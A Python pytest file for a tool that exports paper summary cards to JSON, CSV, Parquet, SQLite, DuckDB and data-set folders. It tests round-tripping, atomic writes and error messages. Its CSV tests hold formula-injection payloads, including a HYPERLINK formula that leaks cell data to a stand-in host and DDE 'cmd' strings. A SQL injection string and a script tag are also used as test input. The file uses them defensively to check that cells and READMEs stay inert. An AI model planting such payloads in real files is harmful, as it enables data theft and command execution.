"""Cards as JSON, CSV, Parquet, SQLite, DuckDB and data sets: read back equal, whole or not there, inert."""

import csv
import hashlib
import json
import re
import sqlite3
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random

import duckdb
import pyarrow.parquet as pq
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from papercards.card import (
    Artifact,
    Card,
    CardLink,
    Claim,
    Evidence,
    Label,
    Provenance,
    Reproducibility,
    Tokens,
)
from papercards.errors import BadInput, MissingExtra, PapercardsError, StorageError, UsageError
from papercards.paper import Paper
from papercards.reading.tagger_reader import BaselineReader
from papercards.sinks import arrow_cards, dataset, delimited, known_formats, open_sink, read_cards
from papercards.sinks.dataset_readme import readme
from papercards.sinks.facts import Facts, Maker, measured
from papercards.sources import open_source
from papercards.taxonomy import Taxonomy
from tests.conftest import SEED

from .cards import card
from .test_writing import names, one_line

READABLE = ("c.jsonl", "c.json", "c.parquet", "c.db", "c.duckdb", "dataset:c")
FILES = pytest.mark.parametrize("name", ["c.json", "c.csv", "c.tsv", "c.parquet", "c.sqlite", "c.duckdb"])
ROOT = Path(__file__).parent.parent.parent
BESIDE = {"c.sqlite": "-journal", "c.duckdb": ".wal"}


def write(spec: Path, *cards: Card, paper: Paper | None = None) -> None:
    sink = open_sink(spec)
    for one in cards:
        sink.write(one, paper)
    sink.close()


def spec(folder: Path, name: str) -> Path:
    kind, colon, path = name.rpartition(":")
    return Path(f"{kind}{colon}{folder / path}")


words = st.text(st.characters(exclude_categories=["Cs"]), max_size=30) | st.sampled_from(
    [
        "\0",
        "=1+1",
        "a\0b",
        "\u2028",
        "\ufeff",
        "\U0001f600",
        "\u202e",
        "\n---\n",
        "]]>",
        "'; DROP TABLE papers; --",
        '"',
    ]
)
place = {"section": st.none() | words, "page": st.none() | st.integers(1, 2**31)}
share = st.none() | st.floats(0, 1)
count = st.integers(0, 2**53)
labels = st.lists(st.builds(Label, label=words, confidence=share), max_size=3).map(tuple)


@st.composite
def evidences(draw: st.DrawFn) -> Evidence:
    said, start = draw(words.filter(bool)), draw(count)
    stands = {name: draw(values) for name, values in place.items()}
    number = draw(st.integers(1, 2**40))
    return Evidence(start=start, end=start + len(said), sentence=number, text=said, **stands)


artifacts = st.builds(
    Artifact,
    status=st.sampled_from(["released", "promised", "not-stated"]),
    confidence=share,
    evidence=st.none() | evidences(),
)
link_kinds = st.sampled_from(["code", "data", "weights", "other"])
any_cards = st.builds(
    Card,
    id=words,
    title=words,
    status=st.just("ok"),
    tldr=words,
    tasks=labels,
    modalities=labels,
    contributions=labels,
    claims=st.lists(st.builds(Claim, kind=words, confidence=share, evidence=evidences()), max_size=2).map(
        tuple
    ),
    reproducibility=st.builds(
        Reproducibility,
        code=artifacts,
        data=artifacts,
        weights=artifacts,
        links=st.lists(
            st.builds(CardLink, url=words, kind=link_kinds, start=count, end=count, **place), max_size=2
        ).map(tuple),
    ),
    flags=st.lists(words, max_size=2).map(tuple),
    provenance=st.builds(
        Provenance,
        model=words,
        model_sha256=st.none() | words,
        prompt=words,
        taxonomy=words,
        created=words,
        calls=count,
        tokens=st.builds(Tokens, prompt=count, cached_prompt=count, completion=count),
        cost_usd=st.none() | st.floats(0, allow_infinity=False),
        seconds=st.floats(0, allow_infinity=False),
    ),
)


@given(st.lists(any_cards, max_size=3), st.none() | words.filter(bool))
@settings(max_examples=20)
def test_any_cards_are_read_back_equal_from_every_format(
    tmp_path_factory: pytest.TempPathFactory, cards: list[Card], abstract: str | None
) -> None:
    paper = Paper("x", "T", abstract, url="https://a.b/") if abstract else None
    with tempfile.TemporaryDirectory(dir=tmp_path_factory.getbasetemp()) as folder:
        for name in READABLE:
            place = spec(Path(folder), name)
            write(place, *cards, paper=paper)
            assert list(read_cards(place)) == cards, name
        for name in ("c.csv", "c.tsv"):
            write(spec(Path(folder), name), *cards, paper=paper)
            with (Path(folder) / name).open(newline="", encoding="utf-8") as file:
                rows = list(csv.reader(file, delimiter="," if name == "c.csv" else "\t"))
            assert [len(row) for row in rows] == [len(delimited.COLUMNS)] * (len(cards) + 1)


@pytest.fixture(scope="module")
def seed() -> list[tuple[Card, Paper]]:
    """The cards of the seed papers."""
    from importlib import resources

    from papercards.taxonomy import parse

    file = resources.files("papercards.prompts") / "taxonomies" / "ml-papers.yaml"
    reader = BaselineReader(parse(file.read_text(encoding="utf-8"), name="ml-papers", where="ml-papers"))
    papers = [one for one in open_source(str(SEED)) if isinstance(one, Paper)]
    return [(reader.card(paper), paper) for paper in papers]


@pytest.mark.parametrize("name", READABLE)
def test_the_seed_papers_are_read_back_equal(
    tmp_path: Path, seed: list[tuple[Card, Paper]], name: str
) -> None:
    place = spec(tmp_path, name)
    sink = open_sink(place)
    for made, paper in seed:
        sink.write(made, paper)
    sink.close()

    assert list(read_cards(place)) == [made for made, _ in seed]
    assert len(seed) == 215


def test_every_format_that_reads_back_is_tried_here() -> None:
    tried = {Path(name).suffix for name in READABLE}
    assert all(tried & {*kind.extensions} or kind.folder for kind in known_formats() if kind.read)


@FILES
def test_the_name_appears_only_when_all_is_written(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("from an earlier run")
    if name in ("c.sqlite", "c.duckdb"):
        (tmp_path / f"{name}.writing").write_text("from a killed run")
        (tmp_path / f"{name}.writing{BESIDE[name]}").write_text("from a killed run")
    sink = open_sink(tmp_path / name)
    for number in range(3):
        sink.write(card(id=f"x{number}"), None)
    before = (tmp_path / name).read_text()
    sink.close()
    content = (tmp_path / name).read_bytes()
    sink.close()
    sink.abandon()

    assert before == "from an earlier run"
    assert (tmp_path / name).read_bytes() == content
    assert names(tmp_path) == sorted([name, *(["c.metadata.json"] if name == "c.sqlite" else [])])
    (file,) = sink.files
    assert (file.path, file.whole, file.size) == (tmp_path / name, True, len(content))
    assert file.sha256 == hashlib.sha256(content).hexdigest()


@FILES
def test_what_is_abandoned_stays_as_partial_and_nothing_as_nothing(tmp_path: Path, name: str) -> None:
    open_sink(tmp_path / name).abandon()
    assert names(tmp_path) == []

    sink = open_sink(tmp_path / name)
    for number in range(3):
        sink.write(card(id=f"x{number}"), None)
    sink.abandon()
    sink.abandon()

    assert names(tmp_path) == [f"{name}.partial"]
    (file,) = sink.files
    assert not file.whole
    assert file.sha256 == hashlib.sha256((tmp_path / f"{name}.partial").read_bytes()).hexdigest()
    kind = Path(name).suffix.lstrip(".")
    if kind in ("parquet", "sqlite", "duckdb"):
        (tmp_path / f"{name}.partial").rename(tmp_path / f"rest.{kind}")
        assert len(list(read_cards(tmp_path / f"rest.{kind}"))) == 3


@FILES
def test_a_second_run_on_the_same_output_is_refused(tmp_path: Path, name: str) -> None:
    first = open_sink(tmp_path / name)
    first.write(card(), None)

    with pytest.raises(StorageError, match="in use by another run"):
        open_sink(tmp_path / name).write(card(), None)
    first.close()
    assert (tmp_path / name).stat().st_size > 100


@FILES
def test_a_folder_or_a_read_only_place_is_refused(tmp_path: Path, read_only: Path, name: str) -> None:
    (tmp_path / name).mkdir()

    with pytest.raises(StorageError, match="is a folder"):
        open_sink(tmp_path / name)
    with pytest.raises(StorageError) as caught:
        open_sink(read_only / name)
    one_line(caught.value, name, "Choose another folder")


@pytest.mark.parametrize("name", ["c.json", "c.csv", "c.parquet", "c.sqlite", "c.duckdb", "dataset:c"])
def test_a_full_disk_is_one_line_and_leaves_whole_cards(
    mount: Callable[[str], Path], name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(arrow_cards, "ROW_GROUP", 256)
    folder = mount("size=4m")
    place = spec(folder, name)
    sink = open_sink(place)
    random = Random(4)

    with pytest.raises(StorageError) as caught:
        for number in range(20_000):
            sink.write(card(id=f"x{number}", claim=random.randbytes(1500).hex()), None)
        sink.close()
    sink.abandon()

    one_line(caught.value, "the disk is full", "Free some space")
    assert not list(folder.rglob("*.writing*"))
    whole = [path for path in folder.rglob("*") if path.is_file() and not path.name.endswith(".partial")]
    assert whole == []
    if name == "c.sqlite":
        (folder / "c.sqlite.partial").rename(folder / "c.db")
        assert len(list(read_cards(folder / "c.db"))) % 1000 == 0


@FILES
def test_the_same_cards_make_the_same_bytes_unless_the_format_says_otherwise(
    tmp_path: Path, name: str
) -> None:
    made = [tmp_path / "a" / name, tmp_path / "b" / name]
    for path in made:
        write(path, *(card(id=f"x{n}") for n in range(20)))

    (kind,) = (one for one in known_formats() if Path(name).suffix in one.extensions)
    # Some versions of DuckDB happen to write the same bytes; none promises it.
    assert kind.repeatable == (name != "c.duckdb")
    assert made[0].read_bytes() == made[1].read_bytes() or not kind.repeatable
    if kind.read is not None:
        first, second = (list(kind.read(path)) for path in made)
        assert first == second and len(first) == 20


def test_a_missing_library_names_its_extra(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    for module in ("pyarrow", "pyarrow.parquet", "duckdb"):
        monkeypatch.setitem(sys.modules, module, None)

    for name in ("c.parquet", "c.duckdb", "dataset:c"):
        with pytest.raises(MissingExtra, match=r"papercards\[tables\]"):
            open_sink(spec(tmp_path, name))
    assert names(tmp_path) == []


# JSON


@pytest.mark.parametrize("indent", [None, 0, 4])
def test_an_array_may_be_laid_out_in_any_way(tmp_path: Path, indent: int | None) -> None:
    cards = [card(id=f"x{n}", title="\u2028 {}[],\"'") for n in range(600)]
    text = json.dumps([json.loads(one.to_json()) for one in cards], indent=indent)
    (tmp_path / "c.json").write_text(f"\ufeff {text}\n\n")

    assert len(text) > 2 << 18
    assert list(read_cards(tmp_path / "c.json")) == cards


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "is not a JSON array"),
        ("{}", "is not a JSON array"),
        ("[1]", "card 1: not a card"),
        ("[{}]", "card 1: not a card: id: Field required"),
        ("[{]", "card 1: is not valid JSON"),
        ("[%s", "card 1: the array is incomplete"),
        ("[%s}", "card 1: the array is incomplete"),
        ("[%s,", "card 2: is not valid JSON"),
        ('[%s,%s, {"id": "x', "card 3: is not valid JSON"),
        ("[" * 100_000, "card 1: is nested too deeply"),
        ("[" + '{"a":' * 100_000, "card 1: is nested too deeply"),
    ],
)
def test_what_is_no_array_of_cards_is_told_with_its_place(tmp_path: Path, text: str, words: str) -> None:
    (tmp_path / "c.json").write_text(text.replace("%s", card().to_json()))

    with pytest.raises(BadInput) as caught:
        list(read_cards(tmp_path / "c.json"))
    one_line(caught.value, words)


# CSV


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file, delimiter="\t" if path.suffix == ".tsv" else ","))


@pytest.mark.parametrize("name", ["c.csv", "c.tsv"])
def test_a_row_has_all_that_a_spreadsheet_needs(tmp_path: Path, name: str) -> None:
    write(tmp_path / name, card(flag="summary-too-long"))

    (row,) = cells(tmp_path / name)
    assert row == {
        "id": "arxiv:2401.03955",
        "title": "Tiny Time Mixers",
        "url": "https://arxiv.org/abs/2401.03955",
        "tldr": "Small models forecast well.",
        "main_task": "time-series-forecasting",
        "main_task_confidence": "0.9",
        "tasks": "time-series-forecasting",
        "modalities": "time-series",
        "contributions": "method; dataset",
        "claims": "performance: It is 40% better.",
        "code": "released",
        "code_evidence": "Code is at https://github.com/a/b_c.",
        "data": "not-stated",
        "data_evidence": "",
        "weights": "promised",
        "weights_evidence": "We will release weights.",
        "links": "https://github.com/a/b_c",
        "flags": "summary-too-long",
        "model": "local/m",
        "prompt": "card@1",
        "taxonomy": "t@1",
        "created": "2026-11-23T21:00:00Z",
        "calls": "0",
        "prompt_tokens": "0",
        "completion_tokens": "0",
        "cost_usd": "",
        "seconds": "0.0",
        "candidates": "",
        **dict.fromkeys(("citation_key", "authors", "venue", "categories", "keywords"), ""),
        "year": "2024",
        "date": "2024-01",
        "arxiv_id": "2401.03955",
        **dict.fromkeys(("doi", "pdf_url", "source", "license", "abstract_source", "same_as"), ""),
    }


FORMULAS = [
    '=HYPERLINK("http://e.vil?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    '","=1+1',
    "a\t=1+1",
    "a\n=1+1\r\n=2",
]


@pytest.mark.parametrize("name", ["c.csv", "c.tsv"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula(tmp_path: Path, name: str, formula: str) -> None:
    paper = Paper("x", "T", "A.", url=formula)
    fields = ("id", "title", "tldr", "task", "claim", "code", "flag")
    write(tmp_path / name, *(card(**{field: formula}) for field in fields), paper=paper)

    text = (tmp_path / name).read_text()
    rows = cells(tmp_path / name)
    assert len(rows) == len(fields) == text.count("\n") - 1
    for row in rows:
        assert None not in row and None not in row.values()
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
    assert rows[1]["title"].lstrip("'").startswith(" ".join(formula.split())[:3].strip("\u200b"))


@pytest.mark.parametrize("start", [*"=+-@\t\r\n"])
def test_a_cell_is_made_inert_by_an_apostrophe(start: str) -> None:
    assert delimited.inert(f"{start}1") == f"'{start}1"
    assert delimited.inert(f"1{start}") == f"1{start}"


def test_csv_is_not_read_back(tmp_path: Path) -> None:
    write(tmp_path / "c.csv", card())

    with pytest.raises(UsageError, match=r"cards cannot be read back from.*dataset:FOLDER"):
        read_cards(tmp_path / "c.csv")


# Parquet


def test_parquet_keeps_nested_types_and_flushes_row_groups(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(arrow_cards, "ROW_GROUP", 512)
    write(tmp_path / "c.parquet", *(card(id=f"x{n}") for n in range(1200)))

    file = pq.ParquetFile(tmp_path / "c.parquet")
    groups = [file.metadata.row_group(n).num_rows for n in range(file.num_row_groups)]
    assert groups == [512, 512, 176]
    assert str(file.schema_arrow.field("tasks").type) == (
        "list<element: struct<label: string, confidence: double>>"
    )
    optional = ("candidates", "fields", "same_as", "publication")
    written = list(json.loads(card().to_json()))
    assert [name for name in file.schema_arrow.names if name not in optional] == written


@pytest.mark.parametrize("name", ["c.parquet", "c.db", "c.duckdb"])
def test_a_file_of_something_else_is_one_line(tmp_path: Path, name: str) -> None:
    import pyarrow as pa

    (tmp_path / name).write_bytes(b"nothing of the kind")
    with pytest.raises(BadInput) as caught:
        list(read_cards(tmp_path / name))
    one_line(caught.value, name)
    (tmp_path / name).unlink()
    if name == "c.parquet":
        pq.write_table(pa.table({"id": ["x"]}), tmp_path / name)
    elif name == "c.db":
        sqlite3.connect(tmp_path / name).execute("CREATE TABLE papers (id)").connection.close()
    else:
        duckdb.connect(tmp_path / name).close()
    with pytest.raises(BadInput) as caught:
        list(read_cards(tmp_path / name))
    one_line(caught.value, name)


@pytest.mark.parametrize("name", ["c.parquet", "c.db", "c.duckdb"])
def test_a_number_that_no_column_holds_is_one_line(tmp_path: Path, name: str) -> None:
    huge = card().model_copy(update={"claims": (_claim(2**70),)})

    sink = open_sink(tmp_path / name)
    with pytest.raises(BadInput):
        sink.write(huge, None)
        sink.close()
    sink.abandon()
    assert not (tmp_path / name).exists()


def _claim(start: int) -> Claim:
    return Claim(kind="k", evidence=Evidence(start=start, end=start + 1, sentence=1, text="a"))


# SQLite and DuckDB


@pytest.fixture
def shelf(tmp_path: Path, seed: list[tuple[Card, Paper]]) -> Iterator[sqlite3.Connection]:
    """The seed papers in SQLite, the last one without its abstract."""
    sink = open_sink(tmp_path / "shelf.db", sources=("/home/someone/papers.jsonl",))
    for made, paper in seed[:-1]:
        sink.write(made, paper)
    sink.write(seed[-1][0], None)
    sink.close()
    connection = sqlite3.connect(tmp_path / "shelf.db")
    yield connection
    connection.close()


def test_keys_hold_and_every_row_is_there(shelf: sqlite3.Connection, seed: list[tuple[Card, Paper]]) -> None:
    assert shelf.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
    assert shelf.execute("PRAGMA foreign_key_check").fetchall() == []
    cards = [made for made, _ in seed]
    for table, rows in {
        "papers": 215,
        "tasks": sum(len(one.tasks) for one in cards),
        "modalities": sum(len(one.modalities) for one in cards),
        "contributions": sum(len(one.contributions) for one in cards),
        "claims": sum(len(one.claims) for one in cards),
        "links": sum(len(one.reproducibility.links) for one in cards),
        "artifacts": 3 * 215,
        "provenance": 215,
        "abstracts": 214,
        "cards": 215,
    }.items():
        assert shelf.execute(f"SELECT count(*) FROM {table}").fetchone() == (rows,), table
        if table != "papers":
            (key,) = {row[2:5] for row in shelf.execute(f"PRAGMA foreign_key_list({table})")}
            assert key == ("papers", "paper", "number")
    shelf.execute("PRAGMA foreign_keys = ON")
    with pytest.raises(sqlite3.IntegrityError):
        shelf.execute("INSERT INTO tasks VALUES (216, 1, 'x', NULL)")


def test_questions_about_labels_and_confidence_use_an_index(shelf: sqlite3.Connection) -> None:
    sql = (
        "SELECT title, confidence FROM tasks JOIN papers ON number = paper "
        "WHERE label = 'time-series-forecasting' AND confidence > 0.5"
    )
    plan = " ".join(row[3] for row in shelf.execute(f"EXPLAIN QUERY PLAN {sql}"))

    assert "tasks_label" in plan and "SCAN" not in plan
    assert len(shelf.execute(sql).fetchall()) > 5


def test_words_are_found_in_titles_summaries_claims_and_abstracts(shelf: sqlite3.Connection) -> None:
    def found(query: str) -> set[int]:
        return {
            row for (row,) in shelf.execute("SELECT rowid FROM papers_fts WHERE papers_fts MATCH ?", (query,))
        }

    # Checks that the index has what the tables have.
    shelf.execute("INSERT INTO papers_fts (papers_fts, rank) VALUES ('integrity-check', 1)")
    assert len(found("forecast")) > 15
    assert found("forecast") == found("forecasting")
    assert found("title: mixers") and found("tldr: mixers") and found("claims: outperforms")
    assert len(found("abstract: forecasting")) > len(found("title: forecasting"))
    (shown,) = shelf.execute(
        "SELECT snippet(papers_fts, 0, '[', ']', '', 9) FROM papers_fts WHERE papers_fts MATCH ?",
        ("title: xmodel title: report",),
    ).fetchone()
    assert "[Xmodel]" in shown


def test_datasette_is_told_of_tables_and_columns_that_are_there(
    shelf: sqlite3.Connection, tmp_path: Path
) -> None:
    about = json.loads((tmp_path / "shelf.metadata.json").read_text())

    assert about["source"] == "papers.jsonl"
    tables = about["databases"]["shelf"]["tables"]
    for name, told in tables.items():
        columns = {row[1] for row in shelf.execute(f"PRAGMA table_info({name})")}
        facets = {facet if isinstance(facet, str) else facet["array"] for facet in told.get("facets", [])}
        assert columns and facets <= columns
    shown = tables["papers"]
    assert shown["label_column"] == "title"
    assert shelf.execute(f"SELECT count(*) FROM {shown['fts_table']}").fetchone() == (215,)
    arrays = shelf.execute("SELECT count(*) FROM papers, json_each(papers.tasks)").fetchone()
    assert arrays == shelf.execute("SELECT count(*) FROM tasks").fetchone()


def test_the_abstracts_make_it_a_source_again(tmp_path: Path, seed: list[tuple[Card, Paper]]) -> None:
    for name in ("c.db", "c.duckdb"):
        for folder, known in ((tmp_path / "with", True), (tmp_path / "without", False)):
            sink = open_sink(folder / name)
            for made, paper in seed[:5]:
                sink.write(made, paper if known else None)
            sink.close()

        assert list(open_source(str(tmp_path / "with" / name))) == [paper for _, paper in seed[:5]]
        with pytest.raises(BadInput, match=r"has an abstract\. If it is a card file"):
            open_source(str(tmp_path / "without" / name))


def test_duckdb_has_the_same_tables(tmp_path: Path, seed: list[tuple[Card, Paper]]) -> None:
    for name in ("c.db", "c.duckdb"):
        sink = open_sink(tmp_path / name)
        for made, paper in seed:
            sink.write(made, paper)
        sink.close()

    light = sqlite3.connect(tmp_path / "c.db")
    with duckdb.connect(tmp_path / "c.duckdb", read_only=True) as heavy:
        tables = {name for (name,) in heavy.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
        assert len(tables) == 14
        for table in sorted(tables):
            ours, theirs = (
                [
                    tuple(
                        json.dumps(cell, ensure_ascii=False) if isinstance(cell, list) else cell
                        for cell in row
                    )
                    for row in database.execute(f"SELECT * FROM {table} ORDER BY 1, 2").fetchall()
                ]
                for database in (light, heavy)
            )
            assert ours == theirs, table
        tasks = "SELECT unnest(tasks) AS task FROM papers"
        sql = f"SELECT task, count(*) FROM ({tasks}) GROUP BY 1 ORDER BY 2 DESC LIMIT 1"
        assert heavy.execute(sql).fetchone() == ("language-modeling", 35)
    light.close()


# Data sets


def test_a_data_set_is_loaded_by_the_hubs_own_library(tmp_path: Path, seed: list[tuple[Card, Paper]]) -> None:
    import datasets

    sink = open_sink(spec(tmp_path, "dataset:set"), sources=("hf-papers-listing.txt",))
    for made, paper in seed:
        sink.write(made, paper)
    sink.close()

    cache = str(tmp_path / "cache")
    rows = datasets.load_dataset(str(tmp_path / "set"), split="train", cache_dir=cache)
    assert rows.num_rows == 215
    assert [Card.model_validate(row) for row in rows.select(range(3))] == [made for made, _ in seed[:3]]
    assert pq.read_table(tmp_path / "set" / "data").num_rows == 215


def front(file: Path) -> dict[str, object]:
    return dict(yaml.safe_load(file.read_text().split("---\n")[1]))


def test_its_readme_says_what_it_is_and_how_it_was_made(
    tmp_path: Path, seed: list[tuple[Card, Paper]]
) -> None:
    sink = open_sink(
        spec(tmp_path, "dataset:set"), sources=("/home/someone/list.txt", "https://u:p@a.b/x?key=1")
    )
    for made, paper in seed:
        sink.write(made, paper)
    sink.close()
    file = tmp_path / "set" / "README.md"
    text = file.read_text()

    told = front(file)
    assert told["license"] == "unknown" and "# to be filled in" in text
    assert told["size_categories"] == ["n<1K"]
    assert told["configs"] == [
        {"config_name": "default", "data_files": [{"split": "train", "path": "data/cards-*.parquet"}]}
    ]
    for words in (
        "215 research papers",
        "| `language-modeling` | 35 |",
        "| code | 57 | 5 | 153 |",
        "| tasks F1 | 0.71 |",
    ):
        assert words in text
    assert "`list.txt`, `https://a.b/x`" in text
    assert "someone" not in text and "not measured" not in text


def test_the_shipped_baseline_is_the_one_whose_figures_are_published(taxonomy: Taxonomy) -> None:
    made_by = BaselineReader(taxonomy).made_by

    maker = Maker("baseline", None, str(made_by["prompt"]), str(made_by["taxonomy"]))
    assert measured(maker) is not None
    assert measured(maker._replace(prompt="baseline@00000000")) is None
    assert measured(maker._replace(taxonomy="mine@00000000")) is None


def test_what_was_not_measured_is_said_to_be(tmp_path: Path) -> None:
    write(spec(tmp_path, "dataset:set"), card())

    assert "`local/m` with `card@1` and `t@1`: not measured." in (tmp_path / "set" / "README.md").read_text()


def test_a_second_run_replaces_its_own_files_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dataset, "PER_FILE", 10)
    folder = tmp_path / "set"
    write(spec(tmp_path, "dataset:set"), *(card(id=f"x{n}") for n in range(35)))
    assert names(folder / "data") == [f"cards-0000{n}.parquet" for n in range(4)]
    assert len(list(read_cards(spec(tmp_path, "dataset:set")))) == 35
    file = folder / "README.md"
    text = file.read_text()
    text = text.replace(
        "license: unknown  # to be filled in: the licence under which you publish these cards",
        "license: cc0-1.0",
    )
    text = text.replace("pretty_name: Paper cards", "pretty_name: Mine\nhand: written")
    file.write_text(text.replace("# Paper cards", "# Mine\n\nMy words.") + "\nMy last words.\n")
    (folder / "data" / "mine.parquet").write_text("mine")
    (folder / "notes.txt").write_text("mine")

    write(spec(tmp_path, "dataset:set"), *(card(id=f"y{n}") for n in range(12)))

    assert [one.id for one in read_cards(spec(tmp_path, "dataset:set"))] == [f"y{n}" for n in range(12)]
    assert names(folder / "data") == ["cards-00000.parquet", "cards-00001.parquet", "mine.parquet"]
    assert (folder / "notes.txt").read_text() == "mine"
    told, text = front(file), file.read_text()
    assert (told["license"], told["pretty_name"], told["hand"]) == ("cc0-1.0", "Mine", "written")
    assert "# Mine\n\nMy words." in text and text.endswith("\nMy last words.\n")
    assert "12 research papers" in text and "35 research papers" not in text
    again = file.read_bytes()
    write(spec(tmp_path, "dataset:set"), *(card(id=f"y{n}") for n in range(12)))
    assert file.read_bytes() == again


def test_a_readme_of_somebody_else_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "set").mkdir()
    (tmp_path / "set" / "README.md").write_text("---\nlicense: mit\n---\n# My data set\n")

    with pytest.raises(UsageError, match="was not written by papercards"):
        open_sink(spec(tmp_path, "dataset:set"))
    assert names(tmp_path / "set") == ["README.md"]
    with pytest.raises(BadInput, match="is not a data set of cards"):
        list(read_cards(spec(tmp_path, "dataset:set")))


def test_an_abandoned_data_set_has_no_names(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dataset, "PER_FILE", 2)
    sink = open_sink(spec(tmp_path, "dataset:set"))
    for number in range(3):
        sink.write(card(id=f"x{number}"), None)
    sink.abandon()

    assert names(tmp_path / "set") == ["data"]
    assert names(tmp_path / "set" / "data") == ["cards-00000.parquet.partial", "cards-00001.parquet.partial"]


@given(words)
def test_no_label_breaks_out_of_the_readme(label: str) -> None:
    facts = Facts()
    for one in (label, "| a |\n---\n", "<script>alert(1)</script>", "<!-- papercards: end -->"):
        facts.add(card(task=one))

    text = readme(facts, [label], None, "README.md")
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text.split("---\n", 2)[2])

    assert yaml.safe_load(text.split("---\n")[1])["license"] == "unknown"
    assert "<script>alert" not in html
    assert html.count("<table>") == 7
    assert readme(facts, [label], text, "README.md") == text


def test_an_error_of_a_sink_is_never_more_than_a_line(tmp_path: Path) -> None:
    for kind in known_formats():
        name = (
            f"{kind.name}:{tmp_path / 'no' / 'such'}"
            if kind.folder or not kind.extensions
            else str(tmp_path / f"no{kind.extensions[0]}")
        )
        with pytest.raises(PapercardsError) as caught:
            list(read_cards(Path(name)))
        assert "\n" not in str(caught.value)


def test_the_queries_of_the_documents_run(shelf: sqlite3.Connection, tmp_path: Path) -> None:
    text = (ROOT / "docs" / "outputs.md").read_text(encoding="utf-8")
    parquet, light = re.findall(r"```sql\n(.*?)```", text, re.DOTALL)
    write(tmp_path / "cards.parquet", *read_cards(tmp_path / "shelf.db"))

    for query in light.split(";\n"):
        assert not query.strip() or shelf.execute(query).fetchall(), query
    found = duckdb.execute(parquet.replace("'cards.parquet'", f"'{tmp_path}/cards.parquet'")).fetchall()
    assert found[0] == ("language-modeling", 35)
